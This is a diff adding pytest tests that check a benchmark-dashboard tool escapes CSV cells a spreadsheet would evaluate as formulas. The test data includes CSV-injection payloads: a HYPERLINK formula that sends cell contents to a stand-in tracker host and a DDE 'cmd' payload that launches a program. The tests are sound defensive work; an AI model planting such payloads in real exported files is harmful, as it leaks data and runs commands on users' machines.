@@ -144,3 +144,49 @@ def test_native_csv_by_file_name_and_by_kind_column(engine):
         assert [p.rate for p in checkpoint.position_acceptance] == [0.8, 0.7, 0.65, 0.6]
         spec = session.scalar(select(Benchmark).where(Benchmark.speculative_algorithm == "EAGLE3"))
         assert (spec.decode_tps, spec.accept_length, spec.checkpoint_id) == (140.2, 2.9, checkpoint.id)
+
+
+FORMULAS = [
+    '=HYPERLINK("https://tracker.example/?d="&A1,"open")',
+    "+cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd",
+    "-2+3+cmd",
+]
+
+
+def test_csv_cells_a_spreadsheet_would_run_are_text(invoke, db_url):
+    """Names that a spreadsheet reads as formulas (CSV injection) are exported with a leading ': shown as
+    typed, never evaluated; JSON keeps them as they are, and numbers stay numbers."""
+    from specdash.ingest.load import ingest_bytes
+
+    lines = [json.dumps({"kind": "run", "name": name}) for name in FORMULAS]
+    lines.append(
+        json.dumps({"kind": "benchmark", "deployment": "=1+1", "run": FORMULAS[0], "decode_tps": 90.0})
+    )
+    result = ingest_bytes(make_engine(db_url), "formulas.jsonl", ("\n".join(lines) + "\n").encode())
+    assert result.ok, result.problems
+    runs = list(csv.DictReader(io.StringIO(export(invoke, db_url, "runs", "--format", "csv"))))
+    assert sorted(r["name"] for r in runs) == sorted("'" + name for name in FORMULAS)
+    (bench,) = csv.DictReader(io.StringIO(export(invoke, db_url, "benchmarks", "--format", "csv")))
+    assert (bench["deployment"], bench["decode_tps"]) == ("'=1+1", "90.0")
+    assert {r["name"] for r in json.loads(export(invoke, db_url, "runs"))} == set(FORMULAS)
+    gaps = invoke(db_url, "gaps", "--threshold", "0", "--status", "all", "--format", "csv").output
+    assert all(not cell.startswith(("=", "+", "@")) for row in csv.reader(io.StringIO(gaps)) for cell in row)
+
+
+@pytest.mark.parametrize(
+    "value,cell",
+    [
+        ("=1+1", "'=1+1"),
+        ("\tx", "'\tx"),
+        ("\r=1", "'\r=1"),
+        ("-x", "'-x"),
+        ("a=1", "a=1"),
+        (-3.5, -3.5),
+        (None, None),
+    ],
+)
+def test_spreadsheet_safe_prefixes_only_text_a_spreadsheet_would_read_as_a_formula(value, cell):
+    from specdash.ingest.csvtext import spreadsheet_safe
+
+    assert spreadsheet_safe(value) == cell
